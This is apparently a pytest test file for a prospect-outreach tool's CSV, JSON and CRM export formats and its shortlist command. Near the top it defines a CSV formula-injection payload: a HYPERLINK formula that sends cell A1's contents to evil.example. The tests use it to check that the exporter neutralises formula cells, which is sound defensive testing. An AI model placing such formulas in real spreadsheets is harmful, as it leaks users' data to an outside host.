"""Every export format written to a real file (and stdout), parsed back and checked."""

from __future__ import annotations

import csv
import io
import json
import subprocess
import sys
from pathlib import Path

import pytest

from discover.errors import InputError
from discover.outreach.export import EXPORTERS, FORMATS, export_prospects, get_exporter, safe_cell
from discover.records import Prospect
from discover.outreach.shortlist import pitch_angle
from discover.store import Store

EVIL = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def prospects() -> list[Prospect]:
    return [
        Prospect(url="https://bakes.co.uk/resources", domain="bakes.co.uk", type="resource", score=0.91,
                 title=EVIL, why="+relevant: vegan, baking", email="jo@bakes.co.uk", email_kind="person",
                 broken_links=["http://dead.example/old"], social=["https://twitter.com/bakes"],
                 explanation={"author": "Jo Bloggs", "top_terms": [["vegan", 0.4]]}, niche="vegan baking",
                 phone="+441134960000", contact_name="Jo Bloggs", first_name="Jo", last_name="Bloggs",
                 company="Bakes & Co"),
        Prospect(url="http://forum.example.com/t/1", domain="example.com", type="forum", score=0.5,
                 title="Best egg replacers? – Forum", why="-12 days since last post", contact_page="http://example.com/c",
                 niche="vegan baking"),
        Prospect(url="http://dir.example.org/", domain="dir.example.org", type="directory", score=-0.25,
                 title="@Local directory\tlisting", niche="vegan baking",
                 explanation={"submit_url": "http://dir.example.org/submit"}),
    ]


def test_safe_cell() -> None:
    assert safe_cell("=1+2") == "'=1+2"
    for bad in ("+x", "-x", "@SUM(A1)", "\tx", "\rx", "-2+3", "=-1"):
        assert safe_cell(bad).startswith("'")
    assert safe_cell("-3.5") == "-3.5" and safe_cell("+44") == "+44" and safe_cell(-0.25) == "-0.25"
    assert safe_cell(0.912345) == "0.912" and safe_cell(None) == "" and safe_cell(["a", "b"]) == "a; b"
    assert safe_cell("plain") == "plain"


def test_pitch_angles() -> None:
    ps = prospects()
    assert "replacement for the dead link http://dead.example/old" in pitch_angle(ps[0])
    assert pitch_angle(ps[1]).startswith("Join and contribute to the thread “Best egg replacers?”")
    assert "http://dir.example.org/submit" in pitch_angle(ps[2])
    haro = Prospect(url="u", domain="d", type="haro", score=1, title="Need vegan bakers", deadline="2025-05-01 17:00")
    assert "before 2025-05-01 17:00" in pitch_angle(haro)
    gp = Prospect(url="u", domain="d", type="guest_post", score=1, title="Write for us | Bakes",
                  explanation={"top_terms": [["aquafaba", 0.5], ["meringue", 0.2]]})
    assert "aquafaba" in pitch_angle(gp) and "Write for us" in pitch_angle(gp)
    assert "comment" in pitch_angle(Prospect(url="u", domain="d", type="blog", score=1))


def _read_csv(path: Path) -> list[dict[str, str]]:
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")   # BOM for Excel
    return list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))


EXPECTED_HEADERS = {
    "hubspot": ["Company name", "Company Domain Name", "Website URL", "First Name", "Last Name", "Email",
                "Phone Number", "Lifecycle Stage", "Lead Status", "Description"],
    "pipedrive": ["Lead title", "Organization name", "Organization website", "Person name", "Person first name",
                  "Person last name", "Person email", "Person phone", "Lead labels", "Note"],
    "pitchbox": ["Campaign Name", "URL", "Contact Email", "Contact First Name", "Contact Last Name", "Company",
                 "Phone", "Link Type", "Notes"],
}
#: Rows each format writes from `prospects()`: HubSpot cannot create a contact for the two without
#: an email or a full name.
WRITTEN = {"csv": 3, "hubspot": 1, "pipedrive": 3, "buzzstream": 3, "pitchbox": 3}


@pytest.mark.parametrize("fmt", ["csv", "hubspot", "pipedrive", "buzzstream", "pitchbox"])
def test_csv_formats_round_trip(fmt: str, tmp_path: Path) -> None:
    out = tmp_path / f"x.{fmt}.csv"
    assert export_prospects(prospects(), fmt, out) == WRITTEN[fmt]
    rows = _read_csv(out)
    assert len(rows) == WRITTEN[fmt]
    cls = get_exporter(fmt)
    assert list(rows[0]) == list(cls.columns)  # type: ignore[attr-defined]
    if fmt in EXPECTED_HEADERS:
        assert list(rows[0]) == EXPECTED_HEADERS[fmt]
    for row in rows:                      # no cell can run as a formula (a signed number is a number)
        for value in row.values():
            assert not value.startswith(("=", "@", "\t", "\r")) and not (
                value.startswith(("-", "+")) and not value[1:].replace(".", "").isdigit())
    text = out.read_text("utf-8-sig")
    assert "bakes.co.uk" in text and "dead.example/old" in text


def test_csv_columns_and_values(tmp_path: Path) -> None:
    out = tmp_path / "s.csv"
    export_prospects(prospects(), "csv", out)
    rows = _read_csv(out)
    assert rows[0]["title"] == "'" + EVIL and rows[0]["why"] == "'+relevant: vegan, baking"
    assert rows[0]["score"] == "0.91" and rows[2]["score"] == "-0.25"          # negative numbers untouched
    assert rows[2]["title"] == "'@Local directory\tlisting"
    assert rows[0]["email"] == "jo@bakes.co.uk" and rows[0]["email_kind"] == "person"
    assert rows[0]["social"] == "https://twitter.com/bakes" and rows[0]["pitch"]


def test_crm_values(tmp_path: Path) -> None:
    export_prospects(prospects(), "hubspot", tmp_path / "h.csv")
    h = _read_csv(tmp_path / "h.csv")[0]
    assert (h["Company Domain Name"], h["Email"], h["First Name"], h["Last Name"], h["Lifecycle Stage"]) == (
        "bakes.co.uk", "jo@bakes.co.uk", "Jo", "Bloggs", "lead")
    assert h["Website URL"] == "https://bakes.co.uk/"
    assert (h["Company name"], h["Phone Number"], h["Lead Status"]) == ("Bakes & Co", "+441134960000", "NEW")
    export_prospects(prospects(), "pipedrive", tmp_path / "p.csv")
    p = _read_csv(tmp_path / "p.csv")
    assert p[0]["Lead title"] == "Resource page: Bakes & Co" and p[0]["Person name"] == "Jo Bloggs"
    assert (p[0]["Person first name"], p[0]["Person last name"], p[0]["Person phone"]) == ("Jo", "Bloggs",
                                                                                          "+441134960000")
    assert p[1]["Person name"] == "" and p[1]["Organization name"] == "example.com"
    export_prospects(prospects(), "buzzstream", tmp_path / "b.csv")
    b = _read_csv(tmp_path / "b.csv")
    assert b[0]["Twitter"] == "https://twitter.com/bakes" and b[1]["Contact Form URL"] == "http://example.com/c"
    assert (b[0]["Link Partner – Name"], b[0]["Link Partner – Domain"], b[0]["Phone"]) == (
        "Bakes & Co", "bakes.co.uk", "+441134960000")
    export_prospects(prospects(), "pitchbox", tmp_path / "x.csv")
    x = _read_csv(tmp_path / "x.csv")
    assert x[0]["URL"] == "https://bakes.co.uk/resources" and x[0]["Link Type"] == "Broken Link"
    assert (x[0]["Contact First Name"], x[0]["Contact Last Name"], x[0]["Company"]) == ("Jo", "Bloggs", "Bakes & Co")


def test_json_and_jsonl(tmp_path: Path) -> None:
    export_prospects(prospects(), "json", tmp_path / "p.json")
    data = json.loads((tmp_path / "p.json").read_text("utf-8"))
    assert [d["domain"] for d in data] == ["bakes.co.uk", "example.com", "dir.example.org"]
    assert data[0]["title"] == EVIL and data[0]["pitch"]       # JSON is data, not a spreadsheet: unchanged
    assert Prospect(**{**data[1], "pitch": ""}) == prospects()[1]
    export_prospects(prospects(), "jsonl", tmp_path / "p.jsonl")
    lines = (tmp_path / "p.jsonl").read_text("utf-8").splitlines()
    assert [json.loads(x)["score"] for x in lines] == [0.91, 0.5, -0.25]
    export_prospects([], "json", tmp_path / "e.json")
    assert json.loads((tmp_path / "e.json").read_text()) == []


def test_registry() -> None:
    assert set(FORMATS) == {"table", "csv", "json", "jsonl", "hubspot", "pipedrive", "buzzstream", "pitchbox"}
    assert all(EXPORTERS[n].name == n for n in FORMATS)
    with pytest.raises(InputError):
        get_exporter("xlsx")


def test_cli_shortlist_stdout_and_file(tmp_path: Path) -> None:
    db = tmp_path / "e.sqlite"
    s = Store.open(str(db))
    run = s.start_run("vegan baking")
    s.save_prospects(run, prospects())
    s.close()
    env = {"PATH": "/usr/bin:/bin", "HOME": str(tmp_path)}
    base = [sys.executable, "-m", "discover", "shortlist", "--db", str(db)]
    out = subprocess.run([*base, "-f", "csv", "--top", "2"], capture_output=True, text=True, env=env, timeout=60)
    rows = list(csv.DictReader(io.StringIO(out.stdout)))
    assert out.returncode == 0 and not out.stdout.startswith("\ufeff") and len(rows) == 2
    out = subprocess.run([*base, "-f", "jsonl", "--types", "forum,directory", "--min-score", "0"],
                         capture_output=True, text=True, env=env, timeout=60)
    assert [json.loads(x)["type"] for x in out.stdout.splitlines()] == ["forum"]
    target = tmp_path / "hub.csv"
    out = subprocess.run([*base, "-f", "hubspot", "--out", str(target)], capture_output=True, text=True, env=env,
                         timeout=60)
    assert out.returncode == 0 and len(_read_csv(target)) == 1
    assert "2 no email and no first + last name" in out.stderr   # reported, not silently written
    table = subprocess.run(base, capture_output=True, text=True, env=env, timeout=60)
    assert "bakes.co.uk" in table.stdout and "example.com" in table.stdout
    bad = subprocess.run([*base, "-f", "xlsx"], capture_output=True, text=True, env=env, timeout=60)
    assert bad.returncode == 2 and "unknown format" in bad.stderr


# --- each product's own import rules (docs/crm-formats.md) ---------------------------------------

def _row(**kw) -> Prospect:
    base = dict(url="https://site.example.net/page", domain="site.example.net", type="blog", score=0.7,
                niche="vegan baking")
    return Prospect(**{**base, **kw})


def test_hubspot_contact_needs_an_email_or_a_first_and_last_name(tmp_path: Path) -> None:
    from discover.outreach.export import write_export
    from discover.outreach.export.hubspot import LEAD_STATUSES

    rows = [_row(domain="a.example.net", email="info@a.example.net", email_kind="generic"),
            _row(domain="b.example.net", first_name="Noor", last_name="Hassan", phone="+15155550123"),
            _row(domain="c.example.net", first_name="Noor"),                 # a first name alone is not enough
            _row(domain="d.example.net", company="Dee's Bakes"),             # nobody to create
            _row(domain="e.example.net", email="jo@e.example.net", email_kind="person", ledger_status="contacted")]
    report = write_export(rows, "hubspot", tmp_path / "h.csv")
    written = _read_csv(tmp_path / "h.csv")
    assert [r["Company Domain Name"] for r in written] == ["a.example.net", "b.example.net", "e.example.net"]
    assert report.written == 3 and report.rejected == {
        "no email and no first + last name (HubSpot creates no contact without one)": 2}
    # Dropdowns take HubSpot's internal option values, whatever the portal's language.
    assert {r["Lead Status"] for r in written} <= set(LEAD_STATUSES)
    assert [r["Lead Status"] for r in written] == ["NEW", "NEW", "ATTEMPTED_TO_CONTACT"]
    assert {r["Lifecycle Stage"] for r in written} == {"lead"}
    assert written[1]["Phone Number"] == "+15155550123"


def test_pipedrive_never_names_a_person_with_the_email_address(tmp_path: Path) -> None:
    export_prospects([_row(email="jane@site.example.net", email_kind="person", phone="+441134960000",
                           company="Site Bakes")], "pipedrive", tmp_path / "p.csv")
    row = _read_csv(tmp_path / "p.csv")[0]
    assert row["Person name"] == "" and "@" not in row["Person first name"] + row["Person last name"]
    # No person is created without a name: the routes are kept in the note, not lost.
    assert row["Person email"] == "" and "Email: jane@site.example.net" in row["Note"]
    assert "Phone: +441134960000" in row["Note"] and row["Organization name"] == "Site Bakes"


def test_buzzstream_link_partner_template(tmp_path: Path) -> None:
    from discover.outreach.export import write_export

    report = write_export([_row(company="Site Bakes"), _row(domain="localhost", url="http://localhost/")],
                          "buzzstream", tmp_path / "b.csv")
    header = (tmp_path / "b.csv").read_text("utf-8-sig").splitlines()[0].split(",")
    assert header[:2] == ["Link Partner \u2013 Name", "Link Partner \u2013 Domain"]   # en dash, as the template
    assert header[2:8] == ["Linking from", "Linking To", "Anchor Text", "Sitewide Link?",
                           "Sitewide \u2013 # of links", "Acquisition Method"]
    row = _read_csv(tmp_path / "b.csv")[0]
    assert (row["Link Partner \u2013 Name"], row["Link Partner \u2013 Domain"]) == ("Site Bakes", "site.example.net")
    assert report.written == 1 and sum(report.rejected.values()) == 1


@pytest.mark.parametrize("ptype,broken,expected", [
    ("guest_post", [], "Guest Post"), ("resource", [], "Resource Page"), ("resource", ["http://x.example/"],
                                                                          "Broken Link"),
    ("haro", [], "Mention"), ("news", [], "Mention"), ("directory", [], "Directory Listing"), ("forum", [], ""),
])
def test_pitchbox_link_type_is_a_link_type_not_a_page_type(ptype, broken, expected, tmp_path: Path) -> None:
    export_prospects([_row(type=ptype, broken_links=broken)], "pitchbox", tmp_path / "x.csv")
    row = _read_csv(tmp_path / "x.csv")[0]
    assert row["Link Type"] == expected and row["Campaign Name"] == "vegan baking"
    assert "Partner URL" not in row and "Partner Category" not in row       # a campaign, not the Partner CRM


@pytest.mark.parametrize("fmt", ["hubspot", "pipedrive", "buzzstream", "pitchbox"])
def test_every_crm_format_fills_name_company_and_phone(fmt: str, tmp_path: Path) -> None:
    export_prospects(prospects()[:1], fmt, tmp_path / "c.csv")
    cells = set(_read_csv(tmp_path / "c.csv")[0].values())
    assert {"Jo", "Bloggs", "Bakes & Co", "+441134960000"} <= cells


def _db_with(tmp_path: Path, rows: list[Prospect], keyword: str = "vegan baking") -> Path:
    db = tmp_path / "e.sqlite"
    with Store.open(str(db)) as s:
        run = s.start_run(keyword)
        s.save_prospects(run, rows)
        s.finish_run(run, "finished")
    return db


def _shortlist(db: Path, tmp_path: Path, *args: str) -> subprocess.CompletedProcess:
    env = {"PATH": "/usr/bin:/bin", "HOME": str(tmp_path), "COLUMNS": "80"}
    return subprocess.run([sys.executable, "-m", "discover", "shortlist", "--db", str(db), *args],
                          capture_output=True, text=True, env=env, timeout=60)


def test_an_export_with_no_rows_exits_6_and_says_what_was_filtered(tmp_path: Path) -> None:
    db = _db_with(tmp_path, [_row(domain="spam-site.net", spam=True, score=0.9),
                             _row(domain="low-site.net", score=0.1), _row(domain="lower-site.net", score=0.2)])
    target = tmp_path / "out.csv"
    r = _shortlist(db, tmp_path, "-f", "hubspot", "--out", str(target), "--min-score", "0.5")
    assert r.returncode == 6, r.stderr
    line = [x for x in r.stderr.splitlines() if x.startswith("error:")][0]
    assert "run 1" in line and "vegan baking" in line
    assert "2 below --min-score" in line and "1 spam" in line
    assert not target.exists()
    # Every prospect refused by the product: nothing written either, with the product's reason.
    db2 = _db_with(tmp_path / "b", [_row(domain="x-site.net"), _row(domain="y-site.net")])
    r = _shortlist(db2, tmp_path, "-f", "hubspot", "--out", str(target))
    assert r.returncode == 6 and "can be imported into hubspot" in r.stderr and "2 no email" in r.stderr
    assert not target.exists()


def test_shortlist_names_its_run_and_niche_and_counts_in_json(tmp_path: Path) -> None:
    db = _db_with(tmp_path, prospects())
    target = tmp_path / "h.csv"
    r = _shortlist(db, tmp_path, "-f", "hubspot", "--out", str(target), "--json")
    assert r.returncode == 0, r.stderr
    assert "shortlist: run 1 (“vegan baking”): 3 of 3 prospect(s)" in r.stderr
    data = json.loads(r.stdout)
    assert (data["run"], data["niche"], data["format"], data["written"], data["rejected"]) == (
        1, "vegan baking", "hubspot", 1, 2)
    assert data["rejected_by_reason"] == {
        "no email and no first + last name (HubSpot creates no contact without one)": 2}
    r = _shortlist(db, tmp_path, "-f", "csv", "--niche", "vegan baking")
    assert r.returncode == 0 and "niche “vegan baking” (all runs)" in r.stderr
    r = _shortlist(db, tmp_path, "-f", "csv", "--json")
    assert r.returncode == 2 and "--out FILE" in r.stderr
